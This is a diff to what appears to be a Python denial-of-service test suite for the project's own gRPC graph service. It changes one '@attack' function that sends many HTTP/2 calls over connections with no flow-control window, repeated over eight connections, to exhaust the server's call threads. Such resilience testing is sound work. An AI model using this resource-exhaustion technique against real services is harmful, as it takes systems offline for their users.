@@ -421,17 +421,17 @@ def no_descriptors(victim):
 
 @attack("answers nobody takes")
 def unread_answers(victim):
-    calls = 150
-    with victim.connect() as connection:
-        connection.sendall(http2.HELLO_WITHOUT_WINDOW)
-        for number in range(calls):
-            stream = 2 * number + 1
-            connection.sendall(http2.call(
-                stream, "/guanxi.v1.GraphService/GetSchema",
-                authorization="Bearer " + victim.tokens["attacker"])
-                + http2.empty_request(stream))
-        time.sleep(ATTACK_S)
-    return f"{calls} calls held"
+    bursts, calls = 8, 150  # more in all than there are threads for calls
+    call_all = b"".join(
+        http2.call(stream, "/guanxi.v1.GraphService/GetSchema",
+                   authorization="Bearer " + victim.tokens["attacker"])
+        + http2.empty_request(stream) for stream in range(1, 2 * calls, 2))
+    with contextlib.ExitStack() as open_ones:
+        for _ in range(bursts):
+            connection = open_ones.enter_context(victim.connect())
+            connection.sendall(http2.HELLO_WITHOUT_WINDOW + call_all)
+            time.sleep(ATTACK_S / 4)
+    return f"{bursts} x {calls} calls held"
 
 
 # On servers of their own: what they may break is not to be seen elsewhere.
